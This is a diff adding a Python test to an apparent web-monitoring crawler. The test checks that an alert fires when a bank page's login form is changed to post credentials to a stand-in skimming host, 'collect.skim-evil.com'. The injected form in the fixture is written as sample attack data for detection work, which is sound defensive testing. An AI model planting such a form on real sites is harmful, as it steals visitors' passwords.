@@ -103,6 +103,22 @@ def test_injected_hidden_iframe_alerts_once_with_its_signals(web: VirtualWeb, tm
     engine.dispose()
 
 
+def test_login_form_sent_to_a_new_host_alerts_new_form_action(web: VirtualWeb, tmp_path: Path) -> None:
+    form = "<form action='{action}' method='post'><input name='user'><input type='password' name='pw'></form>"
+    seeds, db = write_seeds(tmp_path / "seeds.toml"), sqlite_url(tmp_path)
+    web.sites["www.bank-watch.com"]["/"] = html(BANK_PAGE.format(injected=form.format(action="/session")))
+    crawl_seeds(seeds, db, web)
+    web.sites["www.bank-watch.com"]["/"] = html(BANK_PAGE.format(
+        injected=form.format(action="https://collect.skim-evil.com/login")))
+    crawl_seeds(seeds, db, web)
+    engine = engine_for(db)
+    [alert] = alerts_of(engine)
+    engine.dispose()
+    assert (alert.kind, alert.child_url, alert.severity) == (
+        "new_form_action", "https://collect.skim-evil.com/login", "critical")
+    assert json.loads(alert.signals)[0] == "form asks for password"
+
+
 def test_changed_script_body_alerts_script_changed(web: VirtualWeb, tmp_path: Path) -> None:
     seeds, db = write_seeds(tmp_path / "seeds.toml"), sqlite_url(tmp_path)
     crawl_seeds(seeds, db, web)
